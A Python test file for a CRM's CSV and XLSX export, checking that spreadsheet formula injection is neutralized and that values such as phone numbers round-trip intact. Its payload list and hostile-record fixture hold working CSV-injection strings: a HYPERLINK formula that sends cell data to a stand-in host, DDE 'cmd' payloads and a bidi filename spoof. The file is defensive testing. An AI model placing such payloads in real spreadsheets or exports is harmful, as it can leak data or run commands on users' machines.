"""RELIABILITY row 18 — EXPORT-INJECTION & ROUND-TRIP (tier A, Hypothesis).

Values starting with = + - @ \\t \\r \\0, with CRLF, quotes, bidi characters and long strings are
exported to CSV and XLSX and read back with openpyxl and csv (and with the importer's reader,
transfer.readers.read_table). Figures: XLSX cells typed as formulas from user data; CSV cells
with an unescaped leading trigger; round-trip mismatches ("+79161234567" must survive). Pass
bar 0 / 0 / 0. Negative control: with neutralizing switched off (the CSV apostrophe and the
XLSX string type) the same oracle finds formulas and triggers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from voronka.transfer import export
from voronka.transfer.export import Column, Kind, Table

TRIGGER_STARTS = ["=", "+", "-", "@", "\t", "\r", "\0", "\n", "'"]
SPICE = ["\r\n", '"', "'", ";", ",", "\u202e", "\u200f", "\u2066", "\x00", "\x1f", "=", "\n"]
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Нажмите")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "+79161234567",
    "'=1",
    "''",
    'Кавычки "внутри" ; и, запятые',
    "строка\r\nперенос",
    "\u202eevil.exe",
]


def _value() -> st.SearchStrategy[str]:
    piece = st.one_of(
        st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=6),
        st.sampled_from(SPICE),
    )
    body = st.lists(piece, max_size=8).map("".join)
    return st.one_of(
        st.sampled_from(PAYLOADS),
        st.tuples(st.sampled_from(TRIGGER_STARTS), body).map("".join),
        body,
        st.integers(min_value=5_000, max_value=40_000).map(lambda n: "=" + "Я" * n),
    )


COLUMNS = [
    Column("=Заголовок"),  # a custom field may be named like a formula too
    Column("Телефон", Kind.PHONE),
    Column("Сумма", Kind.NUMBER),
    Column("Текст"),
]


def _table(rows: list[list[Any]]) -> Table:
    return Table(
        entity="deals",
        title="Сделки",
        columns=COLUMNS,
        chunks=lambda: iter([rows]),
        count=lambda: len(rows),
    )


def _rows(values: list[str]) -> list[list[Any]]:
    return [[v, v, Decimal("-1500.50"), v] for v in values] + [
        ["x", "+79161234567", Decimal("0"), "+79161234567"]
    ]


def expected_text(value: str) -> str:
    """What a text cell can carry (decision 0022): no XML-illegal controls, LF for CR."""
    return export.cell_text(value)


def oracle(rows: list[list[Any]]) -> dict[str, list[str]]:
    """Export `rows` both ways and read them back; every finding of row 18, by kind."""
    table = _table(rows)
    found: dict[str, list[str]] = {"formula": [], "trigger": [], "mismatch": []}

    # CSV, read back with csv
    raw = b"".join(export.write_csv(table, delimiter=";"))
    assert raw.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    for col, cell in zip(COLUMNS, read[0], strict=True):
        if cell[:1] in export.TRIGGERS and cell[:1] != "'":
            found["trigger"].append(f"csv header {cell!r}")
        if export.restore(cell) != expected_text(col.label):
            found["mismatch"].append(f"csv header {cell!r}")
    for row, cells in zip(rows, read[1:], strict=True):
        for col, value, cell in zip(COLUMNS, row, cells, strict=True):
            if col.kind == Kind.NUMBER:
                if not re.fullmatch(r"-?[0-9]+(,[0-9]+)?", cell):
                    found["trigger"].append(f"csv number {cell!r}")
                continue
            starts = cell[:1] in export.TRIGGERS and cell[:1] != "'"
            if starts and not (col.kind == Kind.PHONE and export.is_phone_number(cell)):
                found["trigger"].append(f"csv {col.label} {cell[:40]!r}")
            if export.restore(cell) != expected_text(value):
                found["mismatch"].append(f"csv {col.label} {value[:40]!r} → {cell[:40]!r}")

    # XLSX, read back with openpyxl
    out = io.BytesIO()
    export.write_xlsx(table, out)
    out.seek(0)
    sheet = load_workbook(out).active
    xrows = list(sheet.iter_rows())
    for cell in xrows[0]:
        if cell.data_type == "f":
            found["formula"].append(f"xlsx header {cell.value!r}")
    for row, cells in zip(rows, xrows[1:], strict=True):
        for col, value, cell in zip(COLUMNS, row, cells, strict=True):
            if cell.data_type == "f":
                found["formula"].append(f"xlsx {col.label} {str(cell.value)[:40]!r}")
                continue
            if col.kind == Kind.NUMBER:
                if Decimal(str(cell.value)) != value:
                    found["mismatch"].append(f"xlsx number {cell.value!r}")
                continue
            want = expected_text(value)[: export.XLSX_MAX_CELL] or None
            if cell.value != want:
                found["mismatch"].append(f"xlsx {col.label} {value[:40]!r} → {cell.value!r}")
    return found


@given(values=st.lists(_value(), min_size=1, max_size=8))
def test_export_neutralizes_and_round_trips(values: list[str]) -> None:
    found = oracle(_rows(values))
    assert found == {"formula": [], "trigger": [], "mismatch": []}


def test_phone_numbers_survive_as_data() -> None:
    """The decision: a valid E.164 phone stays "+79161234567" in both formats (CSV as it is,
    XLSX as a string cell); the same text in a free-text column is neutralized in CSV only."""
    table = _table([["x", "+79161234567", Decimal("1"), "+79161234567"]])
    raw = b"".join(export.write_csv(table))
    row = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))[1]
    assert row[1] == "+79161234567"
    assert row[3] == "'+79161234567" and export.restore(row[3]) == "+79161234567"
    out = io.BytesIO()
    export.write_xlsx(table, out)
    out.seek(0)
    cells = list(load_workbook(out).active.iter_rows())[1]
    assert (cells[1].value, cells[1].data_type) == ("+79161234567", "s")
    assert (cells[3].value, cells[3].data_type) == ("+79161234567", "s")


def test_neutralize_and_restore_are_inverse() -> None:
    for text in [*PAYLOADS, "", "'", "''", "'a", "a'", "'='", "обычный текст"]:
        assert export.restore(export.neutralize(text)) == text
        assert export.neutralize(text)[:1] not in export.TRIGGERS - {"'"}


def _switch_off_neutralizing(monkeypatch: pytest.MonkeyPatch) -> None:
    """The negative control: no apostrophe in CSV, openpyxl's own typing in XLSX."""
    from openpyxl.cell import WriteOnlyCell

    monkeypatch.setattr(export, "neutralize", lambda text: text)
    monkeypatch.setattr(export, "string_cell", lambda sheet, text: WriteOnlyCell(sheet, value=text))


def test_negative_control_oracle_sees_unneutralized_export(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _switch_off_neutralizing(monkeypatch)
    found = oracle(_rows(PAYLOADS))
    assert found["formula"], "formulas from user data must be found in XLSX"
    assert found["trigger"], "leading triggers must be found in CSV"


# --- the whole path: records → HTTP export → read back (csv, openpyxl, the importer's reader) -----


HOSTILE = {
    "title": '=HYPERLINK("http://evil.test","Счёт")',
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "-2+3",
    "contract": "+1+2",
    "company": "=ООО «Формула»",
}


@pytest.fixture
def hostile_deal(org: Any, pipeline: Any) -> Any:
    from factories import make_company, make_contact, make_deal

    owner = org.personas["owner"].user
    company = make_company(responsible=owner, name=HOSTILE["company"], phone="+7 495 123-45-67")
    contact = make_contact(
        responsible=owner,
        company=company,
        first_name="=Иван",
        last_name="+Петров",
        phones=["+7 916 123-45-67"],
        emails=["-x@example.test"],
    )
    return make_deal(
        responsible=owner,
        company=company,
        title=HOSTILE["title"],
        stage=pipeline.stages["new"],
        amount="-0",
        contacts=[contact.pk],
        comment=HOSTILE["comment"],
        source=HOSTILE["source"],
        custom={"contract_no": HOSTILE["contract"]},
    )


def _body(resp: Any) -> bytes:
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


def _by_header(headers: list[Any], row: list[Any]) -> dict[str, Any]:
    return dict(zip(headers, row, strict=False))


@pytest.mark.django_db
def test_deal_export_of_hostile_values(web: Any, hostile_deal: Any) -> None:
    from voronka.transfer.readers import read_table

    client = web("owner")
    want = {
        "Название": HOSTILE["title"],
        "Комментарий": HOSTILE["comment"],
        "Источник": HOSTILE["source"],
        "Номер договора": HOSTILE["contract"],
        "Компания": HOSTILE["company"],
        "Контакт": "+Петров =Иван",
        "Телефон": "+79161234567",
        "E-mail": "-x@example.test",
    }
    csv_bytes = _body(client.get("/deals/export/", {"format": "csv"}))
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"), newline=""), delimiter=";"))
    got = _by_header(rows[0], rows[1])
    for name, value in want.items():
        cell = got[name]
        if name != "Телефон":
            assert cell == "'" + value, name
        assert export.restore(cell) == value, name
    assert got["Телефон"] == "+79161234567"

    xlsx_bytes = _body(client.get("/deals/export/", {"format": "xlsx"}))
    sheet = load_workbook(io.BytesIO(xlsx_bytes)).active
    header, cells = list(sheet.iter_rows())[:2]
    assert not [c for c in (*header, *cells) if c.data_type == "f"]
    got = _by_header([c.value for c in header], [c.value for c in cells])
    for name, value in want.items():
        assert got[name] == value, name

    # The importer's reader sees the same values (CSV through `restore`).
    for data, name, undo in (
        (csv_bytes, "deals.csv", export.restore),
        (xlsx_bytes, "deals.xlsx", lambda text: text),
    ):
        table = read_table(data, name)
        got = _by_header(table.headers, table.rows[0].cells)
        for column, value in want.items():
            assert undo(got[column]) == value, (name, column)
